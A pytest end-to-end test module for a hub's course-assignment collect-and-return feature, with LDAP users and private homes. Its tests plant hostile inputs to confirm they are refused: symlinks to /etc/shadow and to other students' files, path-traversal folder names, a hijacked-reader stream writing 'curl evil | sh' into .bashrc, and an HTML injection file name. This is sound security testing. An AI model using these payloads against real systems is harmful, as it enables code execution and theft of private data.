"""End to end: an instructor collects a folder from every student of a course and returns feedback.

Real hub + proxy + an OpenLDAP of this module's own (the demo users and a second student, frank), homes
private (0700) as on the login node, so a reader that did not run as the student could not read a thing.
"""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest

from devstack.directory import DEMO_GID_NUMBER, DEMO_USERS, DemoUser, directory_ldif
from devstack.slapd import OpenLDAPServer
from tests.support.courses import TAKEOVER, crafted_stream, ensure_course_account
from tests.support.hub import Hub, HubClient, demo_site
from tests.support.scratch import scratch_dir

pytestmark = [pytest.mark.e2e, pytest.mark.ldap]

GID = DEMO_GID_NUMBER
FRANK = DemoUser("frank", "frank-pw", 10021, GID, "", "students", "Frank Student")
# A class of 100 for the time a collect takes: thesis-lab's students (group researchers, with bob), so the
# other tests' dl-intro class stays alice and frank.
CLASS = tuple(
    DemoUser(f"pupil{i:03d}", f"pupil{i:03d}-pw", 20100 + i, GID, "", "researchers", f"Pupil {i}")
    for i in range(1, 101)
)
UIDS = {u.uid: u.uid_number for u in (*DEMO_USERS, FRANK, *CLASS)}
COURSES = [
    {"slug": "dl-intro", "title": "Deep learning for physicists", "students_group": "students",
     "instructors_group": "instructors"},
    {"slug": "thesis-lab", "title": "Thesis lab", "students_group": "researchers", "instructors_group": "guests"},
]


@pytest.fixture(scope="module")
def homes():
    root = scratch_dir("condorhub-assignments-homes-")
    base = root / "home"
    base.mkdir(mode=0o755)
    for name, uid in UIDS.items():
        (base / name).mkdir(mode=0o700)
        os.chown(base / name, uid, GID)
    yield base
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture(scope="module")
def directory(homes):
    base = scratch_dir("condorhub-assignments-ldap-")
    server = OpenLDAPServer(base).start()
    server.add_ldif(directory_ldif(server.suffix, (*DEMO_USERS, FRANK, *CLASS), home_base=str(homes)))
    yield server
    server.stop()
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(scope="module")
def hub(directory):
    work = scratch_dir("condorhub-assignments-hub-")
    site = demo_site(directory.uri, directory.suffix, work / "state")
    site["hub"]["courses_dir"] = str(work / "courses")
    site["courses"] = COURSES
    site["course_publishing"] = {"timeout": "20s"}
    ensure_course_account()
    hub = Hub(work, site).start()
    hub.state_dir = work / "state"
    yield hub
    print(hub.log_tail(80))  # shown by pytest when a test of this module failed
    hub.stop()
    shutil.rmtree(work, ignore_errors=True)


def write_as(path: Path, text: str | bytes, uid: int) -> None:
    """A file (and its folders below the home) owned by ``uid``, as that user's editor would make it."""
    home = path
    while home.parent.name != "home":
        home = home.parent
    folder = home
    for part in path.relative_to(home).parts[:-1]:
        folder = folder / part
        folder.mkdir(exist_ok=True)
        os.chown(folder, uid, GID)
    path.write_bytes(text if isinstance(text, bytes) else text.encode())
    os.chown(path, uid, GID)


def link_as(path: Path, target: str, uid: int) -> None:
    os.symlink(target, path)
    os.lchown(path, uid, GID)


def logged_in(hub: Hub, name: str) -> HubClient:
    client = hub.client()
    page = client.login(name, f"{name}-pw", follow=False)
    assert page.status_code == 302, f"{name} could not log in: {page.status_code}"
    return client


def post(client: HubClient, slug: str, action: str, body: dict, timeout: float = 90):
    return client.api("POST", f"/condorhub/courses/{slug}/assignments/{action}", data=json.dumps(body), timeout=timeout)


def tree(root: Path) -> dict[str, str]:
    """Every regular file below ``root`` (relative path → text); links listed as 'LINK'."""
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_symlink():
            out[str(path.relative_to(root))] = "LINK"
        elif path.is_file():
            out[str(path.relative_to(root))] = path.read_text(errors="replace")
    return out


@pytest.fixture(scope="module")
def people(hub, homes):
    """Everyone logged in once (the hub knows a home from the login's auth state), with exercise-3 written."""
    clients = {name: logged_in(hub, name) for name in ("alice", "frank", "carol", "dave", "bob")}
    write_as(homes / "alice" / "exercise-3" / "answer.py", "print('alice: 42')\n", UIDS["alice"])
    write_as(homes / "alice" / "exercise-3" / "plots" / "loss.txt", "alice's loss curve\n", UIDS["alice"])
    write_as(homes / "frank" / "exercise-3" / "answer.py", "print('frank: 41')\n", UIDS["frank"])
    write_as(homes / "frank" / "private" / "diary.txt", "frank's secret\n", UIDS["frank"])
    return clients


def test_carol_collects_one_folder_per_student_owned_by_her_and_read_as_each_student(hub, homes, people):
    # alice plants links to frank's private file, his exercise, /etc/shadow and a world-readable file.
    ex = homes / "alice" / "exercise-3"
    link_as(ex / "frank-diary.txt", str(homes / "frank" / "private" / "diary.txt"), UIDS["alice"])
    link_as(ex / "frank-exercise", str(homes / "frank" / "exercise-3"), UIDS["alice"])
    link_as(ex / "shadow", "/etc/shadow", UIDS["alice"])
    link_as(ex / "passwd", "/etc/passwd", UIDS["alice"])

    reply = post(people["carol"], "dl-intro", "collect", {"folder": "exercise-3"})
    assert reply.status_code == 200, reply.text
    result = reply.json()
    assert result["collected"] == 2 and set(result["students"]) == {"alice", "frank"}, result
    assert result["into"] == "~/collected/dl-intro/exercise-3/"
    assert sorted(result["students"]["alice"]["skipped"]) == [
        "frank-diary.txt (link)", "frank-exercise (link)", "passwd (link)", "shadow (link)",
    ]

    collected = homes / "carol" / "collected" / "dl-intro" / "exercise-3"
    assert tree(collected / "alice") == {"answer.py": "print('alice: 42')\n", "plots/loss.txt": "alice's loss curve\n"}
    assert tree(collected / "frank") == {"answer.py": "print('frank: 41')\n"}
    everything = [collected, *collected.rglob("*")]
    assert {os.lstat(p).st_uid for p in everything} == {UIDS["carol"]}  # written by carol, not root
    assert not any(p.is_symlink() for p in everything)
    # Private to carol: other students (and anyone else) cannot read the class's submissions.
    assert all(stat.S_IMODE(os.lstat(p).st_mode) & 0o077 == 0 for p in everything)
    assert not list(collected.parent.glob(".*incoming*"))  # no half-written copy left behind


def test_only_the_courses_instructors_may_collect_or_return(people):
    for who in ("alice", "dave", "frank"):  # students, and dave who teaches another course
        reply = post(people[who], "dl-intro", "collect", {"folder": "exercise-3"})
        assert reply.status_code == 403, (who, reply.text)
        assert "Only instructors of Deep learning for physicists (group instructors)" in reply.json()["message"]
        assert post(people[who], "dl-intro", "return", {"folder": "exercise-3"}).status_code == 403
    assert post(people["carol"], "no-such-course", "collect", {"folder": "exercise-3"}).status_code == 404
    # dave teaches thesis-lab, carol does not.
    assert post(people["carol"], "thesis-lab", "collect", {"folder": "exercise-3"}).status_code == 403


@pytest.mark.parametrize(
    ("folder", "message"),
    [
        ("", "name the folder"),
        ("   ", "name the folder"),
        ("/etc", "not a path: no `/`, no `..`"),
        ("../alice", "not a path: no `/`, no `..`"),
        ("..", "not a path: no `/`, no `..`"),
        ("courses/dl-intro", "not a path"),
        (".ssh", "hidden folders"),
        (None, "name the folder"),
    ],
)
def test_bad_folder_names_are_refused_with_the_reason(people, folder, message):
    reply = post(people["carol"], "dl-intro", "collect", {"folder": folder})
    assert reply.status_code == 400, reply.text
    assert message in reply.json()["message"], reply.text


def test_returning_before_collecting_is_refused(people):
    reply = post(people["carol"], "dl-intro", "return", {"folder": "exercise-9"})
    assert reply.status_code == 409, reply.text
    assert "exercise-9 has not been collected in Deep learning for physicists yet: collect it first" in reply.text


def test_a_too_large_or_missing_folder_is_reported_for_that_student_only(hub, homes, people):
    write_as(homes / "alice" / "exercise-big" / "answer.py", "print('small')\n", UIDS["alice"])
    write_as(homes / "frank" / "exercise-big" / "answer.py", "print('big')\n", UIDS["frank"])
    with open(homes / "frank" / "exercise-big" / "data.bin", "wb") as fh:  # 2 GiB, sparse
        fh.truncate(2 * 2**30)
    os.chown(homes / "frank" / "exercise-big" / "data.bin", UIDS["frank"], GID)
    started = time.monotonic()
    reply = post(people["carol"], "dl-intro", "collect", {"folder": "exercise-big"})
    took = time.monotonic() - started
    assert reply.status_code == 200, reply.text
    students = reply.json()["students"]
    assert students["alice"]["status"] == "collected" and students["alice"]["files"] == 1
    assert students["frank"]["status"] == "too_large", students
    assert "2048 MiB, more than the 1024 MiB allowed (course_publishing.max_size)" in students["frank"]["error"]
    assert took < 10, took  # refused from the listing, not after reading 2 GiB
    collected = homes / "carol" / "collected" / "dl-intro" / "exercise-big"
    assert (collected / "alice" / "answer.py").exists() and not (collected / "frank").exists()

    missing = post(people["carol"], "dl-intro", "collect", {"folder": "exercise-7"}).json()["students"]
    assert missing["alice"] == {"status": "missing", "error": "no such folder"}, missing
    link_as(homes / "frank" / "exercise-8", str(homes / "alice"), UIDS["frank"])
    linked = post(people["carol"], "dl-intro", "collect", {"folder": "exercise-8"}).json()["students"]
    assert linked["frank"]["status"] == "link" and "not followed" in linked["frank"]["error"], linked
    print(f"2 GiB submission refused, the other collected, in {took:.2f} s")


# A take-over of the collect's reader by the student's own process (same uid): TAKEOVER of the publish
# tests, watching for the assignments reader instead.
ASSIGNMENT_TAKEOVER = TAKEOVER.replace('b"condorhub.courses.reader"', 'b"condorhub.courses.assignments_reader"')


def test_a_student_who_takes_over_the_reader_cannot_write_outside_their_copy(hub, homes, people):
    """frank's process stops the reader the hub started as frank and writes its own stream into the pipe
    to carol's writer: files meant for carol's ~/.bashrc and into alice's collected copy. Refused: nothing
    of it lands, frank's report says so, alice is collected as usual."""
    folder = homes / "frank" / "exercise-race"
    write_as(folder / "answer.py", "print('frank')\n", UIDS["frank"])
    for i in range(6000):  # listing them keeps the reader busy until the take-over stops it
        (folder / f"f{i:05d}.txt").write_text("x\n")
    for path in folder.iterdir():
        os.chown(path, UIDS["frank"], GID)
    write_as(homes / "alice" / "exercise-race" / "answer.py", "print('alice')\n", UIDS["alice"])
    payload = crafted_stream([
        ("../../../../../.bashrc", b"curl evil | sh\n"),
        ("../alice/answer.py", b"print('frank wrote this')\n"),
    ])
    report = scratch_dir("condorhub-assignment-takeover-") / "report.json"
    os.chmod(report.parent, 0o777)
    try:
        attacker = subprocess.Popen(
            [sys.executable, "-I", "-c", ASSIGNMENT_TAKEOVER, payload.hex(), "inject", str(report)],
            user=UIDS["frank"], group=GID, extra_groups=[GID], cwd="/",
        )
        for _ in range(200):
            if Path(f"{report}.ready").exists():
                break
            time.sleep(0.05)
        reply = post(people["carol"], "dl-intro", "collect", {"folder": "exercise-race"})
        assert attacker.wait(30) == 0, reply.text
        taken = json.loads(report.read_text())
    finally:
        shutil.rmtree(report.parent, ignore_errors=True)
    assert taken["written_before"] == 0, taken  # the writer saw only the attacker's stream
    students = reply.json()["students"]
    assert students["frank"]["status"] == "refused", students
    assert "'../../../../../.bashrc': empty, `.` and `..` components are not allowed" in students["frank"]["error"]
    assert students["alice"]["status"] == "collected"
    collected = homes / "carol" / "collected" / "dl-intro" / "exercise-race"
    assert (collected / "alice" / "answer.py").read_text() == "print('alice')\n"
    assert not (collected / "frank").exists() and not list(collected.glob(".*incoming*"))
    assert not (homes / "carol" / ".bashrc").exists()


def test_carol_returns_feedback_and_each_student_fetches_only_their_own(hub, homes, people):
    collected = homes / "carol" / "collected" / "dl-intro" / "exercise-3"
    write_as(collected / "alice" / "feedback" / "notes.md", "alice: good, 9/10\n", UIDS["carol"])
    write_as(collected / "frank" / "feedback" / "notes.md", "frank: see me, 4/10\n", UIDS["carol"])
    alice_feedback = homes / "alice" / "feedback" / "dl-intro" / "exercise-3"

    early = post(people["alice"], "dl-intro", "fetch-feedback", {"folder": "exercise-3"})
    assert early.status_code == 409 and "has not returned it" in early.text, early.text
    returned = post(people["carol"], "dl-intro", "return", {"folder": "exercise-3"})
    assert returned.status_code == 200, returned.text
    assert not (homes / "alice" / "feedback").exists()  # returning writes nothing into a student's home

    listed = people["alice"].api("GET", "/condorhub/courses/dl-intro/assignments").json()
    assert listed["assignments"]["exercise-3"]["fetched"] is None and "students" not in json.dumps(listed)

    fetched = post(people["alice"], "dl-intro", "fetch-feedback", {"folder": "exercise-3"})
    assert fetched.status_code == 200, fetched.text
    assert fetched.json()["into"] == "~/feedback/dl-intro/exercise-3/"
    assert tree(alice_feedback) == {"notes.md": "alice: good, 9/10\n"}
    assert {os.lstat(p).st_uid for p in [alice_feedback, *alice_feedback.rglob("*")]} == {UIDS["alice"]}

    # A crafted request for frank's feedback is refused, and alice's home gets nothing of his.
    crafted = post(people["alice"], "dl-intro", "fetch-feedback", {"folder": "exercise-3", "student": "frank"})
    assert crafted.status_code == 403 and "only your own feedback" in crafted.text, crafted.text
    assert "frank" not in json.dumps(tree(homes / "alice" / "feedback"))

    frank = post(people["frank"], "dl-intro", "fetch-feedback", {"folder": "exercise-3"})
    assert frank.status_code == 200, frank.text
    assert tree(homes / "frank" / "feedback") == {"dl-intro/exercise-3/notes.md": "frank: see me, 4/10\n"}

    # Not a student of the course: no fetch.
    assert post(people["bob"], "dl-intro", "fetch-feedback", {"folder": "exercise-3"}).status_code == 403
    assert post(people["carol"], "dl-intro", "fetch-feedback", {"folder": "exercise-3"}).status_code == 403
    listed = people["alice"].api("GET", "/condorhub/courses/dl-intro/assignments").json()
    assert listed["assignments"]["exercise-3"]["fetched"], listed


def test_collecting_again_replaces_the_copy_and_keeps_carols_feedback(hub, homes, people):
    collected = homes / "carol" / "collected" / "dl-intro" / "exercise-3"
    assert (collected / "alice" / "feedback" / "notes.md").exists()  # from the test above
    write_as(homes / "alice" / "exercise-3" / "answer.py", "print('alice: 43, fixed')\n", UIDS["alice"])
    (homes / "alice" / "exercise-3" / "plots" / "loss.txt").unlink()
    # alice plants her own "feedback" in her submission: it must not pass for carol's.
    write_as(homes / "alice" / "exercise-3" / "feedback" / "notes.md", "alice: 10/10 (says alice)\n", UIDS["alice"])
    reply = post(people["carol"], "dl-intro", "collect", {"folder": "exercise-3"})
    assert reply.status_code == 200, reply.text
    assert "left out" in reply.json()["students"]["alice"]["dropped"]
    assert tree(collected / "alice") == {
        "answer.py": "print('alice: 43, fixed')\n",
        "feedback/notes.md": "alice: good, 9/10\n",
    }
    assert not list(collected.glob(".*"))  # no earlier copy or half-written one next to it


@pytest.mark.load
def test_collecting_from_a_class_of_100_takes_seconds(hub, homes, people):
    for pupil in CLASS:
        logged_in(hub, pupil.uid)  # the hub learns each home at the first login
        for n in range(3):
            write_as(homes / pupil.uid / "exercise-1" / f"part{n}.py", f"print({n})\n" * 50, pupil.uid_number)
    started = time.monotonic()
    reply = post(people["dave"], "thesis-lab", "collect", {"folder": "exercise-1"}, timeout=300)
    took = time.monotonic() - started
    assert reply.status_code == 200, reply.text
    result = reply.json()
    assert len(result["students"]) == 101 and result["collected"] == 100, result  # bob has no exercise-1
    assert result["students"]["bob"]["status"] == "missing"
    collected = homes / "dave" / "collected" / "thesis-lab" / "exercise-1"
    assert len(list(collected.glob("pupil*/part2.py"))) == 100
    assert took < 60, took
    print(f"collected exercise-1 (3 files) from a class of 100 (+1 without it) in {took:.1f} s")


# --- from the UI: carol's course page, alice's home page (Chromium) --------------------------------------

HOSTILE_NAME = "<img src=x onerror=\"document.title='pwned'\">"


def browser_login(page, hub: Hub, name: str, next_path: str) -> None:
    page.goto(f"{hub.url}/hub/login?next={next_path}")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", f"{name}-pw")
    page.click("input[type=submit], button[type=submit]")
    page.wait_for_url(f"{hub.url}{next_path}**", timeout=30_000)


@pytest.mark.browser
def test_carol_collects_and_returns_from_the_course_page_and_alice_fetches_from_her_home(hub, homes, people):
    from tests.support.browser import ARTIFACTS, chromium_page, screenshot

    write_as(homes / "alice" / "exercise-ui" / "answer.ipynb", "{}\n", UIDS["alice"])
    # A student's file name is shown on carol's page: as text, never as HTML.
    link_as(homes / "alice" / "exercise-ui" / HOSTILE_NAME, "/etc/passwd", UIDS["alice"])
    with chromium_page() as page:
        browser_login(page, hub, "carol", "/hub/courses/dl-intro")
        page.wait_for_selector("#condorhub-assignments")
        page.fill("#condorhub-collect-folder", "exercise-ui")
        page.click("#condorhub-collect")
        page.wait_for_selector("#condorhub-collect-students tr[data-user=frank]", timeout=60_000)
        rows = {
            r.get_attribute("data-user"): r.inner_text()
            for r in page.query_selector_all("#condorhub-collect-students tr.condorhub-collected-student")
        }
        assert rows["alice"].startswith("alice\tcollected\t1\t3 B"), rows
        assert rows["frank"].startswith("frank\tno such folder"), rows
        assert f"left out: {HOSTILE_NAME} (link)" in rows["alice"], rows
        assert page.title() != "pwned" and not page.query_selector("#condorhub-assignments img")
        page.wait_for_selector("tr.condorhub-assignment[data-folder=exercise-ui]")
        ARTIFACTS.mkdir(exist_ok=True)  # the whole page: the results are below the fold
        page.screenshot(path=str(ARTIFACTS / "course-assignments-collected.png"), full_page=True)

        write_as(homes / "carol" / "collected" / "dl-intro" / "exercise-ui" / "alice" / "feedback" / "review.md",
                 "well done\n", UIDS["carol"])
        page.click("tr.condorhub-assignment[data-folder=exercise-ui] .condorhub-return")
        page.wait_for_selector("#condorhub-assignment-message .alert-success", timeout=30_000)
        assert "exercise-ui returned: 2 students can now fetch" in page.inner_text("#condorhub-assignment-message")
        page.wait_for_function(
            "document.querySelector('tr.condorhub-assignment[data-folder=exercise-ui] .condorhub-returned')"
            ".textContent !== 'not yet'"
        )
    assert not (homes / "alice" / "feedback" / "dl-intro" / "exercise-ui").exists()

    with chromium_page() as page:
        browser_login(page, hub, "alice", "/hub/home")
        button = page.wait_for_selector(
            "tr.condorhub-course-feedback[data-course=dl-intro] li[data-folder=exercise-ui] .condorhub-fetch-feedback"
        )
        button.click()
        page.wait_for_selector("tr.condorhub-course-feedback .alert-success", timeout=30_000)
        assert "is in ~/feedback/dl-intro/exercise-ui/ (1 file)" in page.inner_text(
            "tr.condorhub-course-feedback .alert-success"
        )
        assert button.inner_text() == "Fetch again"
        screenshot(page, "home-fetch-feedback")
    fetched = homes / "alice" / "feedback" / "dl-intro" / "exercise-ui"
    assert tree(fetched) == {"review.md": "well done\n"}
    assert os.stat(fetched / "review.md").st_uid == UIDS["alice"]
